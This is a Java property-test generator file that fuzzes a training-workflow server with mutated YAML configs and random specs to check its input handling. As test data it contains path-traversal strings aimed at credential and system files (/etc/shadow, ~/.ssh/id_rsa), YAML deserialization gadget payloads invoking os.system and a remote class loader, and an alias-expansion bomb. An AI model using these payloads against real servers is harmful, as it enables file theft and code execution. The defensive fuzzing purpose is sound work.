package troupe.server;

import com.google.protobuf.Descriptors.Descriptor;
import com.google.protobuf.Descriptors.EnumValueDescriptor;
import com.google.protobuf.Descriptors.FieldDescriptor;
import com.google.protobuf.Message;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.math.BigInteger;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;
import org.yaml.snakeyaml.DumperOptions;
import org.yaml.snakeyaml.Yaml;
import troupe.trainers.spec.WorkflowYaml;
import troupe.v1.SubmitWorkflowRequest;
import troupe.v1.WorkflowSpec;

/**
 * Generators of workflow submissions for the property test: random YAML, random text, the shipped configs with
 * keys deleted, renamed, added or given odd values (wrong types, huge, negative, NaN, deep, unicode, empty, very
 * long), their numbers made huge or tiny, their file fields pointed at hostile paths (outside every input folder,
 * through links, climbing with .., with a NUL), textual damage (duplicated lines, truncation, inserted text), and
 * structured specs with random fields (NaN and infinities only reach the server this way; YAML parsing already
 * refuses them).
 */
final class SpecArbitraries {
  private SpecArbitraries() {}

  /** A request and a short label of how it was made, for the statistics and a readable failure report. */
  record Submission(String kind, SubmitWorkflowRequest request) {
    @Override
    public String toString() {
      String body = request.hasSpec() ? request.getSpec().toString() : request.getSpecYaml();
      return kind + ":\n" + (body.length() > 3000 ? body.substring(0, 3000) + "... (" + body.length() + " chars)"
          : body);
    }
  }

  static Arbitrary<Submission> submissions() {
    return Arbitraries.frequencyOf(
        Tuple.of(5, mutatedConfigs()),
        Tuple.of(2, randomYaml()),
        Tuple.of(1, randomText()),
        Tuple.of(2, structuredSpecs()));
  }

  // ---- the shipped configs, mutated

  static final List<String> CONFIGS = readConfigs();

  private static List<String> readConfigs() {
    Path dir = Path.of("..", "configs");
    try (var files = Files.list(dir)) {
      List<String> texts = new ArrayList<>();
      for (Path f : files.filter(p -> p.toString().endsWith(".yaml")).sorted().toList()) {
        texts.add(Files.readString(f));
      }
      if (texts.isEmpty()) {
        throw new IllegalStateException("no configs/*.yaml under " + dir.toAbsolutePath());
      }
      return texts;
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** One change to a config. {@code at} picks a node of the YAML tree (or a line, or a position) modulo the count. */
  sealed interface Mutation {}

  record Delete(int at) implements Mutation {}

  record Replace(int at, Object value) implements Mutation {}

  record Rename(int at, String key) implements Mutation {}

  record AddKey(int at, String key, Object value) implements Mutation {}

  record DuplicateLine(int at) implements Mutation {}

  record Truncate(int at) implements Mutation {}

  record InsertText(int at, String text) implements Mutation {}

  /** Replaces the at-th number of the config, so the value lands in a field that takes a number. */
  record SetNumber(int at, Object value) implements Mutation {}

  /** Sets the at-th file field the config has room for (model.init_checkpoint, sft.train_file, ...). */
  record SetFile(int at, String path) implements Mutation {}

  static Arbitrary<Submission> mutatedConfigs() {
    Arbitrary<Integer> at = Arbitraries.integers().between(0, 10_000);
    Arbitrary<Mutation> mutation = Arbitraries.<Mutation>frequencyOf(
        Tuple.of(3, at.map(Delete::new)),
        Tuple.of(6, Combinators.combine(at, oddValues()).as(Replace::new)),
        Tuple.of(2, Combinators.combine(at, keys()).as(Rename::new)),
        Tuple.of(2, Combinators.combine(at, keys(), oddValues()).as(AddKey::new)),
        Tuple.of(3, Combinators.combine(at, bigNumbers()).as(SetNumber::new)),
        Tuple.of(3, Combinators.combine(at, hostilePaths()).as(SetFile::new)),
        Tuple.of(1, at.map(DuplicateLine::new)),
        Tuple.of(1, at.map(Truncate::new)),
        Tuple.of(1, Combinators.combine(at, Arbitraries.of(":", "- ", "  ", "\t", "{", "]", "&a ", "*a", "!!binary ",
            "#", "\"", "'", "|", ">", "? ", "%YAML 1.1\n", "---\n", "\u0085", "\uFEFF")).as(InsertText::new)));
    return Combinators.combine(Arbitraries.integers().between(0, CONFIGS.size() - 1), mutation.list().ofMinSize(1)
        .ofMaxSize(4)).as((config, mutations) -> new Submission("mutated config",
            SubmitWorkflowRequest.newBuilder().setSpecYaml(mutate(CONFIGS.get(config), mutations)).build()));
  }

  static String mutate(String config, List<Mutation> mutations) {
    Object tree = new Yaml().load(config);
    List<Mutation> textual = new ArrayList<>();
    for (Mutation m : mutations) {
      List<Node> nodes = new ArrayList<>();
      nodes(tree, nodes);
      if (nodes.isEmpty() && !(m instanceof DuplicateLine || m instanceof Truncate || m instanceof InsertText)) {
        continue; // a tree already cut down to a scalar
      }
      if (m instanceof Delete d) {
        nodes.get(d.at() % nodes.size()).delete();
      } else if (m instanceof Replace r) {
        nodes.get(r.at() % nodes.size()).set(r.value());
      } else if (m instanceof Rename r) {
        nodes.get(r.at() % nodes.size()).rename(r.key());
      } else if (m instanceof AddKey a) {
        nodes.get(a.at() % nodes.size()).addSibling(a.key(), a.value());
      } else if (m instanceof SetNumber n) {
        List<Node> numbers = nodes.stream().filter(x -> x.value() instanceof Number).toList();
        if (!numbers.isEmpty()) {
          numbers.get(n.at() % numbers.size()).set(n.value());
        }
      } else if (m instanceof SetFile f) {
        List<Node> slots = fileSlots(nodes);
        if (!slots.isEmpty()) {
          Node slot = slots.get(f.at() % slots.size());
          slot.set(f.path());
          if (slot.key().equals("checkpoint")) {
            slot.addSibling("kind", "model"); // a reward reads its checkpoint only with kind model
          }
        }
      } else {
        textual.add(m);
      }
    }
    String text = dump(tree);
    for (Mutation m : textual) {
      if (m instanceof DuplicateLine d) {
        List<String> lines = new ArrayList<>(text.lines().toList());
        if (!lines.isEmpty()) {
          int i = d.at() % lines.size();
          lines.add(i, lines.get(i));
        }
        text = String.join("\n", lines);
      } else if (m instanceof Truncate t) {
        text = text.substring(0, t.at() % (text.length() + 1));
      } else if (m instanceof InsertText i) {
        int pos = i.at() % (text.length() + 1);
        text = text.substring(0, pos) + i.text() + text.substring(pos);
      }
    }
    return text;
  }

  /** A place in the YAML tree: an entry of a mapping or an item of a list. */
  record Node(Object parent, Object key) {
    Object value() {
      return parent instanceof Map<?, ?> map ? map.get(key) : ((List<?>) parent).get((Integer) key);
    }

    @SuppressWarnings("unchecked")
    void delete() {
      if (parent instanceof Map<?, ?> map) {
        map.remove(key);
      } else {
        ((List<Object>) parent).remove((int) (Integer) key);
      }
    }

    @SuppressWarnings("unchecked")
    void set(Object value) {
      if (parent instanceof Map<?, ?> map) {
        ((Map<Object, Object>) map).put(key, value);
      } else {
        ((List<Object>) parent).set((Integer) key, value);
      }
    }

    @SuppressWarnings("unchecked")
    void rename(String newKey) {
      if (parent instanceof Map<?, ?> map) {
        Object value = map.remove(key);
        ((Map<Object, Object>) map).put(newKey, value);
      }
    }

    @SuppressWarnings("unchecked")
    void addSibling(String newKey, Object value) {
      if (parent instanceof Map<?, ?> map) {
        ((Map<Object, Object>) map).put(newKey, value);
      } else {
        ((List<Object>) parent).add(value);
      }
    }
  }

  private static void nodes(Object tree, List<Node> out) {
    if (tree instanceof Map<?, ?> map) {
      for (Object key : new ArrayList<>(map.keySet())) {
        out.add(new Node(map, key));
        nodes(map.get(key), out);
      }
    } else if (tree instanceof List<?> list) {
      for (int i = 0; i < list.size(); i++) {
        out.add(new Node(list, i));
        nodes(list.get(i), out);
      }
    }
  }

  /**
   * The file fields the config's sections take, whether set or not: a model's init_checkpoint, a task's files, a
   * reward's checkpoint and a stage's train_file.
   */
  @SuppressWarnings("unchecked")
  private static List<Node> fileSlots(List<Node> nodes) {
    List<Node> slots = new ArrayList<>();
    for (Node n : nodes) {
      if (!(n.value() instanceof Map<?, ?> section) || !(n.key() instanceof String key)) {
        continue;
      }
      Map<Object, Object> map = (Map<Object, Object>) section;
      switch (key) {
        case "model", "image_model" -> slots.add(new Node(map, "init_checkpoint"));
        case "task" -> {
          slots.add(new Node(map, "train_file"));
          slots.add(new Node(map, "eval_file"));
        }
        case "reward" -> slots.add(new Node(map, "checkpoint"));
        case "sft", "dpo", "reward_model" -> slots.add(new Node(map, "train_file"));
        default -> { }
      }
    }
    return slots;
  }

  /** Numbers past every bound, at the bounds' edges, or too large for a float. */
  static Arbitrary<Object> bigNumbers() {
    return Arbitraries.of(Integer.MAX_VALUE, 50_000_000, 2_000_000, 100_001, 65_537, 4097, 1025, 1 << 30, 1e30, 3e38,
        1e300, 1e-45, -1e30, 4.0e9);
  }

  /** Where ApiPropertyTest keeps files the paths below point at; set before the first try. */
  static volatile Path hostileDir = Path.of("/nonexistent");

  /** Paths a client should never get the server to read, and a few it may (in DATA_DIR/inputs). */
  static Arbitrary<String> hostilePaths() {
    return Arbitraries.of("/etc/passwd", "../../etc/passwd", "../../../../../../etc/shadow", "/proc/self/environ",
        "/dev/zero", "/dev/urandom", "/", ".", "", "~/.ssh/id_rsa", "a\u0000b", "/etc/passwd\u0000.jsonl",
        "configs/../../../etc/passwd", "x".repeat(5000), "C:\\Windows\\win.ini", "%2e%2e/etc/passwd",
        "secret", "inputs/../../outside/secret.txt", "inputs/escape", "inputs/escape-dir/secret.txt",
        "inputs/escape-dir/../secret.txt", "inputs/ok.jsonl", "auth/token", "inputs", "inputs/none.jsonl")
        .map(p -> p.startsWith("inputs") || p.startsWith("auth") || p.equals("secret")
            ? hostileDir.resolve(p.equals("secret") ? "outside/secret.txt" : "data/" + p).toString() : p);
  }

  static String dump(Object tree) {
    DumperOptions options = new DumperOptions();
    options.setAllowUnicode(true);
    options.setWidth(Integer.MAX_VALUE);
    options.setSplitLines(false);
    return new Yaml(options).dump(tree);
  }

  // ---- values and keys

  /** Field names of WorkflowSpec at any depth (so random YAML gets past the first level), plus made-up ones. */
  static final List<String> FIELD_NAMES = fieldNames();

  private static List<String> fieldNames() {
    Set<String> names = new LinkedHashSet<>();
    Set<Descriptor> seen = new LinkedHashSet<>();
    List<Descriptor> todo = new ArrayList<>(List.of(WorkflowSpec.getDescriptor()));
    while (!todo.isEmpty()) {
      Descriptor d = todo.remove(todo.size() - 1);
      if (seen.add(d)) {
        for (FieldDescriptor f : d.getFields()) {
          names.add(f.getName());
          names.add(f.getJsonName());
          if (f.getJavaType() == FieldDescriptor.JavaType.MESSAGE) {
            todo.add(f.getMessageType());
          }
        }
      }
    }
    return new ArrayList<>(names);
  }

  static Arbitrary<String> keys() {
    return Arbitraries.frequencyOf(
        Tuple.of(4, Arbitraries.of(FIELD_NAMES)),
        Tuple.of(1, strings(30)),
        Tuple.of(1, Arbitraries.of("", " ", "<<", "__proto__", "stages[0]", "a.b", "🙂", "\u0000", "null", "?")));
  }

  /** Printable text of every script (no lone surrogates, which no encoder can write), tabs and newlines. */
  static Arbitrary<String> strings(int maxLength) {
    return Arbitraries.strings().withCharRange(' ', '\uD7FF').withChars("\t\n\u0085\u2028\u00A0").ofMaxLength(maxLength);
  }

  /** A value no field expects, or expects only in a narrow range. */
  static Arbitrary<Object> oddValues() {
    return Arbitraries.<Object>frequencyOf(
        Tuple.of(3, Arbitraries.of(Integer.MAX_VALUE, Integer.MIN_VALUE, Long.MAX_VALUE, Long.MIN_VALUE, -1, 0, 1,
            -1_000_000, 1 << 30, 2_147_483_648L)),
        Tuple.of(3, Arbitraries.integers().between(-3, 40)),
        Tuple.of(2, Arbitraries.of(Double.NaN, Double.POSITIVE_INFINITY, Double.NEGATIVE_INFINITY, -0.0, 1e308,
            -1e-308, Double.MIN_VALUE, 0.5, -2.5, 1e-9)),
        Tuple.of(1, Arbitraries.of(new BigInteger("123456789012345678901234567890"), new BigInteger("-" + "9".repeat(40)))),
        Tuple.of(2, Arbitraries.of("", " ", "null", "~", "NaN", ".nan", "-.inf", "1e400", "0x1F", "🙂🙂",
            "\u202Egnp.exe", "日本語", "a\u0000b", "\t\n", "grpo", "sft", "reverse", "cpu", "gpu", "exact_match",
            "/etc/passwd", "../../../secret", "C:\\Windows")),
        Tuple.of(2, strings(40)),
        Tuple.of(1, Arbitraries.integers().between(1_000, 300_000).map("x"::repeat)), // past 256 KiB: too big
        Tuple.of(1, Arbitraries.of(true, false)),
        Tuple.of(1, Arbitraries.integers().between(1, 80).map(SpecArbitraries::nestedList)), // YAML allows 50
        Tuple.of(1, Arbitraries.integers().between(1, 80).map(SpecArbitraries::nestedMap)),
        Tuple.of(1, Arbitraries.maps(keys(), Arbitraries.integers().between(-5, 5)).ofMaxSize(4)
            .map(m -> (Object) new LinkedHashMap<>(m))),
        Tuple.of(1, Arbitraries.integers().between(-5, 5).list().ofMaxSize(5).map(l -> (Object) l)))
        .injectNull(0.03);
  }

  static Object nestedList(int depth) {
    Object value = 1;
    for (int i = 0; i < depth; i++) {
      value = new ArrayList<>(List.of(value));
    }
    return value;
  }

  static Object nestedMap(int depth) {
    Object value = 1;
    for (int i = 0; i < depth; i++) {
      Map<String, Object> map = new LinkedHashMap<>();
      map.put(i % 2 == 0 ? "stages" : "sft", value);
      value = map;
    }
    return value;
  }

  // ---- YAML and text from scratch

  static Arbitrary<Submission> randomYaml() {
    Arbitrary<Object> tree = Arbitraries.recursive(SpecArbitraries::oddValues, inner -> Arbitraries.oneOf(
        Arbitraries.maps(keys(), inner).ofMaxSize(5).map(m -> (Object) new LinkedHashMap<>(m)),
        inner.list().ofMaxSize(4).map(l -> (Object) new ArrayList<>(l))), 0, 5);
    return tree.map(t -> new Submission("random YAML",
        SubmitWorkflowRequest.newBuilder().setSpecYaml(dump(t)).build()));
  }

  static Arbitrary<Submission> randomText() {
    return Arbitraries.oneOf(
        strings(2000),
        Arbitraries.of(
            "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
                + "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n",
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]",
            "name: !!python/object/apply:os.system [\"true\"]",
            "[".repeat(10_000),
            "{".repeat(10_000) + "}".repeat(10_000),
            "name: a\nname: b\n",
            "---\nname: a\n---\nname: b\n",
            "stages: *undefined",
            "\uFEFFname: bom\nstages: [{sft: {steps: 1}}]",
            "%TAG ! tag:x,2000:\n--- !x\nname: x",
            "stages: [{sft: {steps: 1}}]\n" + "# comment\n".repeat(20_000)))
        .map(text -> new Submission("random text", SubmitWorkflowRequest.newBuilder().setSpecYaml(text).build()));
  }

  // ---- structured specs

  /** A random WorkflowSpec, alone or merged onto a shipped config (so some get past validation to odd values). */
  static Arbitrary<Submission> structuredSpecs() {
    return Arbitraries.randomValue(random -> {
      WorkflowSpec noise = (WorkflowSpec) randomMessage(WorkflowSpec.newBuilder(), random, 0,
          random.nextBoolean() ? 0.5 : 0.1);
      if (random.nextBoolean()) {
        return new Submission("random spec", SubmitWorkflowRequest.newBuilder().setSpec(noise).build());
      }
      WorkflowSpec base = WorkflowYaml.parse(CONFIGS.get(random.nextInt(CONFIGS.size())));
      return new Submission("config merged with a random spec",
          SubmitWorkflowRequest.newBuilder().setSpec(base.toBuilder().mergeFrom(noise)).build());
    });
  }

  private static Message randomMessage(Message.Builder builder, Random random, int depth, double density) {
    for (FieldDescriptor f : builder.getDescriptorForType().getFields()) {
      if (random.nextDouble() >= density) {
        continue;
      }
      if (f.isMapField()) {
        for (int i = random.nextInt(3); i > 0; i--) {
          Message.Builder entry = builder.newBuilderForField(f);
          entry.setField(f.getMessageType().findFieldByName("key"), randomString(random));
          FieldDescriptor value = f.getMessageType().findFieldByName("value");
          entry.setField(value, scalar(value, random));
          builder.addRepeatedField(f, entry.build());
        }
      } else if (f.getJavaType() == FieldDescriptor.JavaType.MESSAGE) {
        if (depth < 4) {
          int count = f.isRepeated() ? random.nextInt(4) : 1;
          for (int i = 0; i < count; i++) {
            Message m = randomMessage(builder.newBuilderForField(f), random, depth + 1, Math.max(density, 0.3));
            if (f.isRepeated()) {
              builder.addRepeatedField(f, m);
            } else {
              builder.setField(f, m);
            }
          }
        }
      } else if (f.isRepeated()) {
        for (int i = random.nextInt(4); i > 0; i--) {
          builder.addRepeatedField(f, scalar(f, random));
        }
      } else {
        builder.setField(f, scalar(f, random));
      }
    }
    return builder.build();
  }

  private static Object scalar(FieldDescriptor f, Random random) {
    return switch (f.getJavaType()) {
      case INT -> new int[] {Integer.MAX_VALUE, Integer.MIN_VALUE, -1, 0, 1, 2, 1 << 30, random.nextInt(64),
          50_000_000, 100_001, 4097}[random.nextInt(11)];
      case LONG -> new long[] {Long.MAX_VALUE, Long.MIN_VALUE, -1, 0, 1, random.nextInt(64)}[random.nextInt(6)];
      case FLOAT -> new float[] {Float.NaN, Float.POSITIVE_INFINITY, Float.NEGATIVE_INFINITY, -0f, Float.MAX_VALUE,
          Float.MIN_VALUE, -1f, random.nextFloat() * 2, 1e30f, 1e7f}[random.nextInt(10)];
      case DOUBLE -> new double[] {Double.NaN, Double.POSITIVE_INFINITY, -1e300, 0, random.nextDouble()}[
          random.nextInt(5)];
      case BOOLEAN -> random.nextBoolean();
      case STRING -> randomString(random);
      case ENUM -> {
        List<EnumValueDescriptor> values = f.getEnumType().getValues();
        yield values.get(random.nextInt(values.size()));
      }
      default -> throw new IllegalStateException("unexpected field type " + f.getJavaType());
    };
  }

  private static String randomString(Random random) {
    String[] fixed = {"", " ", "grpo", "sft", "reverse", "exact_match", "cpu", "policy", "rollout", "🙂",
        "x".repeat(5000), "../../etc/passwd", "\u0000", "token-mean", "composition", "/etc/passwd", "jsonl", "model",
        hostileDir.resolve("data/inputs/escape").toString(), hostileDir.resolve("data/auth/token").toString()};
    if (random.nextInt(3) > 0) {
      return fixed[random.nextInt(fixed.length)];
    }
    StringBuilder b = new StringBuilder();
    for (int i = random.nextInt(20); i > 0; i--) {
      b.append((char) (' ' + random.nextInt(0xD7FF - ' ')));
    }
    return b.toString();
  }
}
